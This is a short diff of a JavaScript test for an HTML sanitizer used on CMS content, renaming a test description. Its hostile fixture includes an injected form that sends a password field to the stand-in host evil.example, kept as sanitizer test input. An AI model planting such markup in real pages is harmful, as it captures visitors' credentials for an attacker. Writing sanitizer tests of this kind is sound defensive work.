@@ -19,7 +19,7 @@ const HOSTILE = [
   '<!-- a comment --><form action="https://evil.example"><input name="pw"></form>',
 ].join('');
 
-describe('sanitizeHtml (issue 16: CMS HTML rendered as HTML, safely)', () => {
+describe('sanitizeHtml (CMS HTML rendered as HTML, safely)', () => {
   const out = sanitizeHtml(HOSTILE);
 
   it('keeps headings, paragraphs, lists, emphasis and safe links', () => {
